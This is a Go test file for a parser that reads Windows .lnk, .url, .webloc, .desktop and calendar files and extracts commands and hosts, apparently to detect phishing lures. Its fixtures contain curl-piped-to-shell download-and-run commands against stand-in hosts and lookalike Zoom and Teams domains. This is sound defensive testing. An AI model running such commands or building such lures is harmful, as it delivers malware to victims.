package inspect

import (
	"encoding/binary"
	"reflect"
	"testing"
	"unicode/utf16"
)

// link builds a .lnk with a relative path and arguments.
func link(relative, arguments string) []byte {
	out := make([]byte, linkHeader)
	binary.LittleEndian.PutUint32(out, linkHeader)
	binary.LittleEndian.PutUint32(out[20:], linkHasRelative|linkHasArguments|linkIsUnicode)
	for _, s := range []string{relative, arguments} {
		u := utf16.Encode([]rune(s))
		out = binary.LittleEndian.AppendUint16(out, uint16(len(u)))
		for _, c := range u {
			out = binary.LittleEndian.AppendUint16(out, c)
		}
	}
	return out
}

func TestReadShortcut(t *testing.T) {
	for name, tc := range map[string]struct {
		file string
		data string
		want Shortcut
	}{
		"lnk":            {"Camera.lnk", string(link(`..\..\Windows\System32\cmd.exe`, `/c curl https://x.invalid/a | cmd`)), Shortcut{Command: `cmd.exe /c curl https://x.invalid/a | cmd`, Shell: "bat"}},
		"lnk cut off":    {"a.lnk", string(link("a", "b")[:70]), Shortcut{Shell: "bat"}},
		"url":            {"Zoom.url", "[InternetShortcut]\r\nURL=https://us05web-zoom.biz/j/1?pwd=2\r\n", Shortcut{Hosts: []string{"us05web-zoom.biz"}}},
		"url to a share": {"Zoom.url", "[InternetShortcut]\nURL=file://files.invalid@SSL/DavWWWRoot/a.exe\n", Shortcut{Hosts: []string{"files.invalid"}}},
		"webloc":         {"a.webloc", `<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>https://zoom-join.invalid/</string></dict></plist>`, Shortcut{Hosts: []string{"zoom-join.invalid"}}},
		"desktop":        {"a.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'curl https://x.invalid | sh'\n", Shortcut{Command: "sh -c 'curl https://x.invalid | sh'", Shell: "sh"}},
		"calendar":       {"a.ics", "BEGIN:VCALENDAR\r\nDESCRIPTION:Join https://teams-\r\n meet.invalid/x now\r\nURL:https://zoom.us/j/1\r\n", Shortcut{Hosts: []string{"teams-meet.invalid", "zoom.us"}}},
	} {
		t.Run(name, func(t *testing.T) {
			if got := ReadShortcut(tc.file, []byte(tc.data)); !reflect.DeepEqual(got, tc.want) {
				t.Errorf("%+v, want %+v", got, tc.want)
			}
		})
	}
}

func FuzzShortcut(f *testing.F) {
	f.Add("a.lnk", link("x.exe", "/c y"))
	f.Add("a.url", []byte("[InternetShortcut]\nURL=https://x.invalid/"))
	f.Add("a.ics", []byte("BEGIN:VCALENDAR\r\nURL:https://x.invalid/"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		if s := ReadShortcut(name, data); len(s.Hosts) > maxHosts {
			t.Errorf("%d hosts", len(s.Hosts))
		}
	})
}
